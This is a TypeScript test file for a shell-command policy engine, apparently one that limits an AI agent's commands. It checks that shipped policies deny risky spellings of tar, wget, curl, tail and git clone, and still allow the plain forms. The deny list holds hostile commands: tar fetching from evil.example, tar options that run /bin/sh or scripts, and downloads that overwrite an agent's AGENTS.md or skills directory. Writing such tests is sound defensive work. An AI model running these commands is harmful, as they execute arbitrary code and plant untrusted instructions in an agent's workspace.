// Program behaviour the rules must model (docs/policy.md, "What each shipped rule lets a program
// do"): each form that reaches the network, runs code or writes an unchecked path, in every
// spelling the program accepts, is never allowed by a shipped policy; the plain form next to it
// still is (or the test could pass by denying everything).
import { beforeAll, describe, expect, it } from "vitest";
import { loadPolicy } from "../../src/policy/index.js";
import type { Policy } from "../../src/policy/types.js";
import { judge, shellReady } from "../unit/policy-helpers.js";

beforeAll(shellReady);

let policies: Policy[];
beforeAll(async () => {
  policies = [await loadPolicy("default"), await loadPolicy("moltbook"), await loadPolicy("common-tools")];
});

/** Every spelling of tar's archive option with `archive` as its value. */
const tarArchive = (archive: string): string[] => [
  `tar -xf ${archive}`,
  `tar -x -f ${archive}`,
  `tar -xzf ${archive}`,
  `tar -xzf${archive}`,
  `tar -x -f${archive}`,
  `tar -x --file ${archive}`,
  `tar -x --file=${archive}`,
  `tar -xf ${archive} -C ~/.openclaw/workspace/out`,
];

const FORMS: Record<string, { attacks: string[]; plain: string[] }> = {
  "GNU tar: an archive name with a colon is a remote archive (DNS + rsh)": {
    attacks: [
      ...tarArchive("evil.example:x.tar"),
      ...tarArchive("user@evil.example:x.tar"),
      ...tarArchive("x:y"),
      "tar -x --fil=evil.example:x.tar",
      "tar -xf a.tar --rsh-command=/bin/sh",
      "tar -xf a.tar --rsh-comm=/bin/sh",
      "tar -xf a.tar --rmt-command=/bin/sh",
      "tar -xf a.tar -F ./next.sh",
      "tar -xf a.tar --info-script=./next.sh",
      "tar -xf a.tar --new-volume-script=./next.sh",
      "tar -xf a.tar --to-command=sh",
      "tar -xf a.tar -I ./sh",
      "tar -xf a.tar --use-compress-program=./sh",
      "tar -xf a.tar --checkpoint=1 --checkpoint-action=exec=sh",
    ],
    plain: tarArchive("a.tar"),
  },
  "wget follows redirects unless --max-redirect=0; without -O it names the file after the URL": {
    attacks: [
      "wget -q -O out.html https://pypi.org/simple/x/",
      "wget -q --max-redirect=1 -O out.html https://pypi.org/simple/x/",
      "wget -q --max-redirect=20 -O out.html https://pypi.org/simple/x/",
      "wget -q --max-redirect=0 https://github.com/owner/repo/raw/main/AGENTS.md",
      "wget -q --max-redirect=0 -P ~/.openclaw/workspace https://pypi.org/simple/x/",
      "wget -q --max-redirect=0 -O ~/.openclaw/workspace/AGENTS.md https://pypi.org/simple/x/",
    ],
    plain: [
      "wget -q --max-redirect=0 -O out.html https://pypi.org/simple/x/",
      "wget --max-redirect 0 -O out.html https://pypi.org/simple/x/",
    ],
  },
  "curl -O names the file after the URL": {
    attacks: [
      "curl -sO https://github.com/owner/repo/raw/main/AGENTS.md",
      "curl -s -O https://github.com/owner/repo/raw/main/AGENTS.md",
      "curl -s --remote-name https://github.com/owner/repo/raw/main/AGENTS.md",
      "curl -L -o out https://github.com/x",
    ],
    plain: ["curl -s -o out.md https://github.com/owner/repo/raw/main/README.md"],
  },
  "GNU tail: an obsolete +N[bcl][f] operand is an option (tail +1f = tail -f)": {
    attacks: [
      "tail +1f notes.txt",
      "tail +1 notes.txt",
      "tail +5c notes.txt",
      "tail +f notes.txt",
      "tail -f notes.txt",
    ],
    plain: ["tail notes.txt", "tail -n 5 notes.txt", "tail ./+1f"],
  },
  "git clone names the directory after the repository unless it is given": {
    attacks: [
      "git clone https://github.com/owner/skills",
      "git clone --depth 1 https://github.com/owner/repo.git",
      "git clone https://github.com/owner/repo.git ~/.openclaw/skills/other",
    ],
    plain: ["git clone --depth 1 https://github.com/owner/repo.git repo"],
  },
};

describe("program forms that reach the network, run code or write unchecked paths", () => {
  for (const [what, { attacks, plain }] of Object.entries(FORMS)) {
    it(what, () => {
      const allowed = attacks.filter((text) => policies.some((p) => judge(text, p).verdict === "allow"));
      expect(allowed).toEqual([]);
      for (const text of plain)
        expect(
          policies.some((p) => judge(text, p).verdict === "allow"),
          `${text} is allowed by a shipped policy`,
        ).toBe(true);
    });
  }
});
